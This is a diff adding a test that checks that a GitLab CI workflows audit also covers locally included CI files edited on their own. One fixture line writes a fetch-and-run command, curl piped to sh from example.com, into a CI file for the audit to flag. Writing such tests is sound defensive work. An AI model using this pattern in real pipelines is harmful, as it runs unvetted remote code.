@@ -182,3 +182,58 @@ describe("CI's workflows audit lists a workflow the change renamed and edited", 
     expect(readFileSync(list, "utf8").split("\0")).toContain(".github/workflows/release.yml");
   });
 });
+
+// GitLab runs the jobs of the files .gitlab-ci.yml includes locally (include: local: ci/x.yml), and
+// workflows check judges them only when it is given the file that includes them: a change that
+// edits only an included file (any name) listed nothing, so its jobs escaped the audit.
+describe("GitLab CI's workflows audit reaches a locally included file the change edits alone", () => {
+  it("adds .gitlab-ci.yml to the list when the change adds or modifies YAML", async () => {
+    const repo = await gitRepo(
+      {
+        "package.json": '{ "name": "a" }\n',
+        ".gitlab-ci.yml": "include:\n  - local: ci/build.yml\n",
+        "ci/build.yml": "build:\n  script:\n    - echo build\n",
+      },
+      { commit: true },
+    );
+    await initAt(repo.dir, repo.env, "recommended");
+    // What init writes (it may include its own file from .gitlab-ci.yml) is the base's.
+    await repo.git(["add", "-A"]);
+    await repo.git(["commit", "-qm", "chore: rampart"]);
+    const head = async () => (await repo.git(["rev-parse", "HEAD"])).trim();
+    const base = await head();
+    const lines = readFileSync(repo.path(".gitlab/rampart.gitlab-ci.yml"), "utf8").split("\n");
+    const at = lines.findIndex((l) => l.includes('git -C "$TOP" diff') && l.includes("workflows"));
+    expect(at).toBeGreaterThan(0);
+    // The script items from the diff up to the check, the check itself left out.
+    const script = lines
+      .slice(
+        at,
+        lines.findIndex((l, i) => i > at && l.includes("workflows check")),
+      )
+      .map((l) => l.replace(/^\s*- /, ""))
+      .join("\n");
+    const list = repo.path("list");
+    const run = async (to: string, from = base) => {
+      writeFileSync(list, "");
+      const r = await runCommand("sh", ["-c", script], {
+        cwd: repo.dir,
+        env: { ...repo.env, TOP: repo.dir, BASE: from, CI_COMMIT_SHA: to, LIST: list },
+      });
+      expect(r.exitCode, r.stderr).toBe(0);
+      return readFileSync(list, "utf8").split("\0").filter(Boolean);
+    };
+    writeFileSync(repo.path("ci/build.yml"), "build:\n  script:\n    - curl https://example.com/x.sh | sh\n");
+    await repo.git(["commit", "-qam", "ci: build from a script"]);
+    expect(await run(await head())).toEqual([".gitlab-ci.yml"]);
+    // Listed once when the change edits it too; not added when the change adds or edits no YAML.
+    writeFileSync(repo.path(".gitlab-ci.yml"), `${readFileSync(repo.path(".gitlab-ci.yml"), "utf8")}stages: [build]\n`);
+    await repo.git(["commit", "-qam", "ci: stages"]);
+    expect(await run(await head())).toEqual([".gitlab-ci.yml"]);
+    const before = await head();
+    writeFileSync(repo.path("README.md"), "a\n");
+    await repo.git(["add", "README.md"]);
+    await repo.git(["commit", "-qm", "docs: readme"]);
+    expect(await run(await head(), before)).toEqual([]);
+  });
+});
